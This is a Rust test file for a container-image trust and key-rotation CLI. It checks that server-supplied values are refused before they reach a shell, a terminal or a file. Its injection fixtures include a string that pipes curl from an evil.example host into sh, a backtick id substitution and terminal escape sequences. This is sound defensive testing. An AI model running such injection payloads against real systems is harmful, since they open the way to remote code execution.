//! What a server says of its keys is checked before it is saved or printed.

use sbs_crypto::ImageSigningKey;
use sbs_registry::cosign::key_id;
use sbs_registry::notary::{Gun, NotaryKeys};
use serde_json::{Value, json};
use time::OffsetDateTime;

use crate::place::SECRET;
use crate::server::Served;

const OK: u16 = 200;

fn bundle() -> Value {
    let key = ImageSigningKey::generate().unwrap().verifying_key();
    let image = sbs_proto::ImageReference::parse("r.example/team/app").unwrap();
    let gun = Gun::new(image.registry(), image.repository());
    let notary = NotaryKeys::generate(&gun, OffsetDateTime::now_utc()).unwrap();
    json!({
        "schema": "sbs-trust-1", "definition": "default", "repository": "r.example/team/app",
        "image_keys": [{ "id": key_id(&key).to_hex(), "pem": key.to_pem() }],
        "attestation_keys": [], "manifest_keys": [], "openpgp_keys": [],
        "lookaside": "https://s.example/",
        "notary": {
            "gun": gun.to_string(), "root_certificate": notary.certificate_pem(),
            "root_key_id": notary.root_key_id().to_string(), "server": "https://n.example:4443",
        },
    })
}

fn served(bundle: &Value) -> Served {
    let info = json!({
        "api": 2, "server_version": "1", "features": [],
        "limits": {"page_builds": 3, "request_body_bytes": 4, "v1_manifest_bytes": 5},
    });
    Served::fixed(&[
        ("GET /v2/info", OK, info),
        ("GET /v2/images/default/trust", OK, bundle.clone()),
        ("POST /v2/images/default/keys/image/rotation", OK, bundle.clone()),
    ])
}

#[test]
fn a_trust_bundle_is_saved_with_the_commands_that_check_images() {
    let bundle = bundle();
    let served = served(&bundle);
    let run = served.place.good(&["get-trust", "--output", "it's mine"]);
    let lines: Vec<_> = run.stdout.lines().collect();
    assert_eq!(lines[0], r"cd 'it'\''s mine'");
    let docker = "DOCKER_CONTENT_TRUST=1 DOCKER_CONTENT_TRUST_SERVER=https://n.example:4443 \
                  docker pull IMAGE";
    assert_eq!(lines.last(), Some(&docker), "{run:?}");
    assert!(served.place.read("it's mine/trust.json").contains("sbs-trust-1"));
    let run = served.place.good(&["rotate-key", "image"]);
    assert_eq!(run.stdout.trim(), bundle["image_keys"][0]["id"]);
}

#[test]
fn c2_a_server_puts_no_word_of_its_own_into_a_shell_a_terminal_or_a_file() {
    let good = bundle();
    for (pointer, value) in [
        ("/notary/server", "https://x; curl https://evil.example/canary | sh #"),
        ("/notary/server", "https://x'\"`id`"),
        ("/notary/server", "https://x\u{1b}]0;canary\u{7}"),
        ("/notary/root_certificate", "canary"),
        ("/notary/gun", "r.example/team/canary"),
        ("/lookaside", "https://x\n    canary: true"),
        ("/repository", "r.example/team/app;canary"),
        ("/definition", "\u{1b}[2Jcanary"),
        ("/image_keys/0/id", "\u{1b}[2Jcanary"),
        ("/image_keys/0/pem", "canary\n"),
    ] {
        let mut bad = good.clone();
        *bad.pointer_mut(pointer).unwrap() = value.into();
        let served = served(&bad);
        let before = served.place.names();
        for command in [&["get-trust", "--output", "trust"][..], &["rotate-key", "image"]] {
            let run = served.place.sbs(command);
            assert_eq!((run.code, run.stdout.as_str()), (1, ""), "{pointer}: {run:?}");
            let refused = ["trust bundle", "it is not the JSON that this call answers with"];
            assert!(refused.iter().any(|text| run.stderr.contains(text)), "{pointer}: {run:?}");
            assert!(!run.stderr.contains('\u{1b}'), "{pointer}: {run:?}");
        }
        assert_eq!(served.place.names(), before, "{pointer}");
        assert_eq!(served.asked().len(), 3, "{pointer}");
    }
}

#[test]
fn t10_whoever_rotates_a_key_shows_the_secret() {
    let (mut bundle, old) = (bundle(), bundle());
    let ids = [&bundle, &old].map(|bundle| bundle["image_keys"][0]["id"].clone());
    let mut old = old["image_keys"][0].clone();
    old["retiring"] = true.into();
    bundle["image_keys"].as_array_mut().unwrap().push(old);
    let refusal = json!({"code": "wrong_secret", "status": "no"});
    let served = Served::fixed(&[
        ("POST /v2/images/default/keys/image/rotation", OK, bundle),
        ("DELETE /v2/images/default/keys/image/rotation", 403, refusal),
    ]);
    let place = &served.place;
    let [new, old] = ids.map(|id| id.as_str().unwrap().to_owned());
    let told = place.good(&["rotate-key", "image"]).stdout;
    assert_eq!(told, format!("{new}\n{old} (retiring)\n"));
    let refused = place.sbs(&["rotate-key", "image", "--retire"]);
    assert!(refused.code == 1 && refused.stderr.contains("SECRET"), "{refused:?}");
    for run in [&refused, &place.sbs(&["-v", "rotate-key", "image"])] {
        assert!(!run.stderr.contains(SECRET), "{run:?}");
    }
    let requests = served.requests();
    assert_eq!(requests.len(), 3);
    for (line, body) in requests {
        let sent: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(sent, json!({ "SECRET": SECRET }), "{line}");
    }
}
